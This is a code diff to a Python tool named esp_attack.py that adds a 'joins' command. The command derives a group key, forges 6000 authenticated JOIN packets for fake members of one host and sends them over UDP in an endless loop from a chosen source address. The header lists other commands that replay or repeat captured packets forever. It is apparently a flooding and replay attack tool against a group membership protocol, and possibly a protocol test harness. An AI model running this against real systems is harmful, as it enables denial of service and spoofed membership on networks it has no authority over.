@@ -4,6 +4,7 @@
 #        esp_attack.py again FILE TO SOURCE...           what was heard once more, for ever: in the
 #                                                        sender's name, and in that of each SOURCE
 #        esp_attack.py copies FILE TO PACKETS_PER_S      the first that was heard, for ever, in its sender's name
+#        esp_attack.py joins KEY_FILE GROUP FROM TO      who has the key: 6000 members of one host, again and again
 #        esp_attack.py repeat FILE TO                    the packet of the file (hex), ten times a second, for ever
 #        esp_attack.py sees DEVICE ADDRESS               exits with 0 when a packet for it comes
 # "ready" is printed when it has begun (again: when all has been sent once).
@@ -13,6 +14,9 @@ import struct
 import sys
 import time
 import zlib
+
+sys.dont_write_bytecode = True
+from ring_live import siphash  # noqa: E402
 
 PORT, JOIN, X = 4253, 66, 0x01
 
@@ -104,6 +108,28 @@ def copies(path, to, rate):
             time.sleep(ahead)
 
 
+def keyed_join(key, group, member, source):
+    address = bytes(10) + b"\xff\xff" + socket.inet_aton(source)
+    body = struct.pack(">BBHQ", 0, JOIN, 20, 0) + struct.pack(">QQQQQ", group, member, 1, 0, 0) + \
+        struct.pack(">II", 0, 10000) + address + struct.pack(">HHI", PORT, 0, 0)
+    body += struct.pack(">Q", siphash(key, body))
+    return body + struct.pack(">I", zlib.crc32(body))
+
+
+def joins(key_file, group, source, to):
+    key, group = bytes.fromhex(open(key_file).read()), int(group)
+    group_key = b"".join(struct.pack("<Q", siphash(key, struct.pack("<QB", group, half))) for half in (0, 1))
+    letters = [keyed_join(group_key, group, member, source) for member in range(1, 6001)]
+    link, end = udp_to(to)
+    link.bind((source, PORT))
+    print("ready", flush=True)
+    for letter in itertools.cycle(letters):
+        try:
+            link.sendto(letter, end)
+        except OSError:
+            pass
+
+
 def again(path, to, *sources):
     letters = [line.split() for line in open(path)]
     raw = raw_socket()
@@ -116,4 +142,4 @@ def again(path, to, *sources):
             print("ready", flush=True)
 
 
-{"absent": absent, "hear": hear, "again": again, "copies": copies, "repeat": repeat, "sees": sees}[sys.argv[1]](*sys.argv[2:])
+{"absent": absent, "hear": hear, "again": again, "copies": copies, "joins": joins, "repeat": repeat, "sees": sees}[sys.argv[1]](*sys.argv[2:])
